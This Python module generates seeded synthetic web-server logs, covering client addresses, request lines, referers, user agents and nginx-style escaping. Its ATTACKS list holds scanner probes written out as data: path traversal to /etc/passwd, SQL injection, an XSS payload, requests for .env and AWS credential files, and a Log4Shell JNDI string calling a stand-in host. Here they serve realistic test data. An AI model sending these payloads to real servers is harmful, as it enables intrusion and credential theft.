r"""
What occurs in generated logs: client addresses, requests, referers, user agents.

1. A pool is ordered by how often its entries are drawn: the first ones are met again and again.
2. Texts are as the client sent them. How a log writes them is the writer's: `logged` for nginx, JSON for ours.
3. All of it follows from the seed.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from random import Random
from typing import NamedTuple

import pyarrow as pa
import pyarrow.compute as pc

IPV6_SHARE = 0.1
AGENTS = 3_000
PATHS = 30_000
REFERERS = 8_000
NETWORKS = 6_000  # /16 of IPv4, of which clients come
SITE = "https://www.example.com"
# First octets with ranges that are given out to nobody: private, loopback, shared, for tests, multicast.
NOT_PUBLIC = frozenset({0, 10, 100, 127, 169, 172, 192, 198, 203, *range(224, 256)})
IPV6_NETWORKS = ("2001:4860", "2400:cb00", "2409:8a00", "2600:1700", "2601:646", "2607:fb90", "2804:14c", "2a01:e0a",
    "2a02:8071", "2a02:c7c", "2a00:23c5", "2c0f:f4c0")  # fmt: skip

WORDS = tuple(
    """about account admin album answer archive article atlas audio author basket berlin bike blog board book brand
bread bridge camera catalog chair cloud coffee collection color contact cook country cycle data design detail digital
docs earth edition event family faq field film filter forum garden gift glass green guide hall help history home house
image index info item journal kitchen lamp large leather letter library light linen list local map market media metal
mobile model money month museum music nature news night north number offer office order outdoor page paper park photo
piece place plan player poster press price print product profile project question quiet radio recipe red report review
river road room search season series service shelf shop silver size small south special spring stone store story street
style summer support table team theme ticket time topic tour town trail travel tree video view village walnut water
weather web week white window winter wood work world yellow young zürich café año ñandú straße""".split()  # noqa: SIM905
)
ASSETS = ("css", "js", "png", "jpg", "svg", "woff2", "webp", "ico")
ATTACKS = (
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/wp-content/plugins/revslider/readme.txt", "/phpmyadmin/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/../../../etc/passwd", "/actuator/gateway/routes",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/index.php?id=1%27%20UNION%20SELECT%201,2,3--", "/boaform/admin/formLogin",
    "/?x=${jndi:ldap://198.51.100.7/a}", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/solr/admin/info/system",
    "/owa/auth/logon.aspx", "/hudson", "/.aws/credentials", "/backup.zip", "/HNAP1/", "/login.action", "/server-status",
)  # fmt: skip


PLAIN = 50  # requests that are met most often, all of them GET
METHODS = (("GET", 96), ("HEAD", 2), ("POST", 2))
API_METHODS = (("GET", 45), ("POST", 45), ("OPTIONS", 5), ("PUT", 4), ("DELETE", 1))


class Request(NamedTuple):
    """A request line in its parts, and the status that it has if not the usual ones ("")."""

    method: str
    target: str
    protocol: str
    status: str = ""


def clients(count: int, seed: int) -> pa.Array:
    """Return addresses in canonical text."""
    random = Random(seed)
    networks = [f"{_octet(random)}.{random.randrange(256)}." for _ in range(NETWORKS)]
    each = [_ints(count, 256, seed + 1), _ints(count, 254, seed + 2), _ints(count, NETWORKS, seed + 3)]
    v4 = pc.binary_join_element_wise(
        pa.array(networks).take(each[2]),
        pc.cast(each[0], pa.string()),
        ".",
        pc.cast(pc.add(each[1], 1), pa.string()),
        "",
    )
    # none of the groups is 0, so that the text is canonical as it is
    groups = pa.array([f":{number:x}" for number in range(1, 1 << 16)])
    some = [groups.take(_ints(count, len(groups), seed + 10 + place)) for place in range(6)]
    v6 = pc.binary_join_element_wise(
        pa.array(IPV6_NETWORKS).take(_ints(count, len(IPV6_NETWORKS), seed + 4)), *some, ""
    )
    return pc.if_else(pc.less(pc.random(count, initializer=seed + 5), IPV6_SHARE), v6, v4)


def _octet(random: Random) -> int:
    return random.choice([octet for octet in range(1, 224) if octet not in NOT_PUBLIC])


def _ints(count: int, below: int, seed: int) -> pa.Array:
    return pc.cast(pc.multiply(pc.random(count, initializer=seed), float(below)), pa.int32(), safe=False)


def requests(seed: int) -> list[Request]:
    """Return what a site is asked for: pages, assets, searches, an API; one in ten with escapes or a query."""
    random = Random(seed)
    found: dict[str, Request] = {"/": Request("GET", "/", "HTTP/1.1")}
    while len(found) < PATHS:
        target = _target(random)
        if target not in found:
            method = _pick(random, API_METHODS if target.startswith("/api/") else METHODS)
            method = method if len(found) > PLAIN else "GET"
            protocol = _pick(random, (("HTTP/1.1", 60), ("HTTP/2.0", 39), ("HTTP/1.0", 1)))
            found[target] = Request(method, target, protocol)
    return list(found.values())


def _target(random: Random) -> str:
    one, two, three = (random.choice(WORDS) for _ in range(3))
    number = random.randrange(100_000)
    kind = random.random()
    if kind < 0.30:
        digest = f"{random.randrange(1 << 32):08x}"
        return f"/assets/{_escaped(one)}-{_escaped(two)}.{digest}.{random.choice(ASSETS)}"
    if kind < 0.60:
        return f"/{_escaped(one)}/{_escaped(two)}-{_escaped(three)}-{number}.html"
    if kind < 0.75:
        return f"/{_escaped(one)}/{_escaped(two)}?page={number % 50 + 1}&sort={_escaped(three)}"
    if kind < 0.85:
        return f"/search?q={_escaped(one)}%20{_escaped(two)}&lang=en&n={number % 100}"
    if kind < 0.95:
        return f"/api/v2/{_escaped(one)}s/{number}/{_escaped(two)}?fields=id,{_escaped(three)}"
    return f"/{_escaped(one)}/{_escaped(two)}/"


def attacks() -> list[Request]:
    """Return what scanners ask for."""
    return [
        Request(
            "POST" if "login" in path or "eval" in path else "GET", path, "HTTP/1.1", "403" if "etc" in path else "404"
        )
        for path in ATTACKS
    ]


def referers(asked: Sequence[Request], seed: int) -> list[str]:
    """Return where visitors come from: "" for nowhere is the caller's; pages of the site, searches, other sites."""
    random = Random(seed)
    pages = [one.target for one in asked if not one.target.startswith(("/assets/", "/search?", "/api/"))]
    found = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/", SITE + "/"]
    while len(found) < REFERERS:
        if random.random() < 0.8:
            found.append(SITE + pages[int(len(pages) * random.random() ** 3)])
        else:
            path = "/".join(_escaped(random.choice(WORDS)) for _ in range(3))
            found.append(f"https://{random.choice(WORDS[:150])}.example.org/{path}?ref={random.randrange(10**6)}")
    return found


def agents(seed: int) -> list[str]:
    """Return user agents of the shapes that occur: browsers, telephones, crawlers, programs, some with odd letters."""
    random = Random(seed)
    found = dict.fromkeys(
        [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "kube-probe/1.31",
        ]
    )
    while len(found) < AGENTS:
        found[_agent(random)] = None
    texts = list(found)
    random.shuffle(texts)
    return texts


def _agent(random: Random) -> str:
    major, build, patch = random.randrange(98, 144), random.randrange(4000, 7300), random.randrange(200)
    kind = random.random()
    if kind < 0.36:
        system = random.choice(
            ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
        )
        brand = random.choice(("", "", f" Edg/{major}.0.{build % 2000}.{patch}", f" OPR/{major - 14}.0.0.0"))
        return (
            f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{major}.0.{build}.{patch} Safari/537.36{brand}"
        )
    if kind < 0.52:
        model = random.choice(
            ("SM-S918B", "SM-A546E", "Pixel 8 Pro", "M2101K6G", "CPH2449", "moto g54", "V2250", "RMX3630")
        )
        return (
            f"Mozilla/5.0 (Linux; Android {random.randrange(9, 16)}; {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{major}.0.{build}.{patch} Mobile Safari/537.36"
        )
    if kind < 0.65:
        version = f"{random.randrange(13, 19)}_{random.randrange(7)}"
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {version} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            f"Version/{version.replace('_', '.')} Mobile/15E{random.randrange(100, 999)} Safari/604.1"
        )
    if kind < 0.80:
        version = f"{major}.{random.randrange(4)}"
        return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{major}.0) Gecko/20100101 Firefox/{version}"
    if kind < 0.94:
        name = random.choice(("python-requests", "curl", "Go-http-client", "okhttp", "axios", "Wget", "Java"))
        return f"{name}/{random.randrange(1, 9)}.{random.randrange(30)}.{random.randrange(10)}"
    word = random.choice(WORDS).title()
    if kind < 0.995:
        return f"Mozilla/5.0 (compatible; {word}Bot/{random.randrange(9)}.{random.randrange(9)}; +https://{word.lower()}.example.net/bot)"
    return f'"{word}" \\ Reader {patch} ü'


def _pick(random: Random, weighted: Sequence[tuple[str, float]]) -> str:
    names, weights = zip(*weighted, strict=True)
    return random.choices(names, weights)[0]


def _escaped(text: str) -> str:
    return (
        text
        if text.isascii()
        else "".join(c if c.isascii() else "".join(f"%{b:02X}" for b in c.encode()) for c in text)
    )


def logged(text: str) -> str:
    r"""Return a text as nginx writes it between quotes: `"`, `\` and what is not printable ASCII as \xNN."""
    if re.search(r"[^ !#-\[\]-~]", text) is None:
        return text
    return "".join(chr(b) if 0x20 <= b < 0x7F and b not in b'"\\' else f"\\x{b:02X}" for b in text.encode())
